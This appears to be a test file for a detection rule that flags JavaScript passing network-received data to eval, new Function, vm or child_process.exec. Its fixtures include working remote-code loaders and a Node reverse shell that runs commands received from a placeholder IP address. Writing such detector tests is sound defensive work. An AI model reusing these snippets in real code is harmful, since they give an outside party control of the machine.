import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'fetch JSON and parse it', code: "async function load(u) { const r = await fetch(u); const data = await r.json(); return JSON.parse(JSON.stringify(data)); }\nconst f = new Function('a', 'return a');" },
    { name: 'https download written to disk, then a fixed command', code: "const https = require('https');\nconst { execSync } = require('child_process');\nhttps.get(url, (res) => { res.pipe(require('fs').createWriteStream('x.tgz')); res.on('end', () => execSync('tar xzf x.tgz')); });" },
    { name: 'eval of local input in a file that also fetches', code: "process.stdin.on('data', (d) => eval(d.toString()));\nfetch('https://api.example.invalid/ping');" },
    { name: 'exec of a command that contains a downloaded file name', code: "const cp = require('child_process');\nconst https = require('https');\nhttps.get(u, (res) => { const name = res.headers['x-file']; cp.exec(`unzip ${name}`); });" },
    { name: 'no network at all', code: "const vm = require('vm');\nmodule.exports = (src) => vm.runInNewContext(src, {});" },
  ],
  invalid: [
    {
      name: 'eslint-scope style pastebin eval',
      code: "try {\n  var https = require('https');\n  https.get({ hostname: 'paste.example.invalid', path: '/raw/abc' }, (r) => {\n    r.setEncoding('utf8');\n    r.on('data', (c) => { eval(c); });\n  });\n} catch (e) {}",
      errors: [{ message: /eval\(\) runs data received over the network/, line: 5 }],
    },
    { name: 'fetch then eval as callback', code: "fetch('https://cdn.example.invalid/x.js').then((r) => r.text()).then(eval);", errors: [{ message: /passes a network response straight to eval/, line: 1 }] },
    {
      name: 'await fetch text into new Function',
      code: "async function boot() {\n  const res = await fetch(process.env.U);\n  const code = await res.text();\n  new Function(code)();\n}\nboot();",
      errors: [{ message: /new Function\(\) runs data received over the network/, line: 4 }],
    },
    {
      name: 'axios data into vm',
      code: "import axios from 'axios';\nimport vm from 'node:vm';\nconst { data } = await axios.get('https://x.example.invalid/p');\nvm.runInThisContext(data);",
      path: 'index.mjs',
      errors: [{ message: /vm\.runInThisContext\(\) runs data received over the network/, line: 4 }],
    },
    {
      name: 'reverse shell: socket data into exec',
      code: "const net = require('net');\nconst { exec } = require('child_process');\nconst s = net.connect(4444, '203.0.113.9');\ns.on('data', (cmd) => exec(cmd.toString(), (e, out) => s.write(out)));",
      errors: [{ message: /child_process\.exec\(\) runs data received over the network/, line: 4 }],
    },
    {
      name: 'accumulated body evaluated on end',
      code: "const http = require('http');\nhttp.get('http://198.51.100.7/s', (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => eval(body));\n});",
      errors: [{ message: /eval\(\) runs data received over the network/, line: 5 }],
    },
  ],
});

testSamples(rule, join(import.meta.dirname, 'samples'));
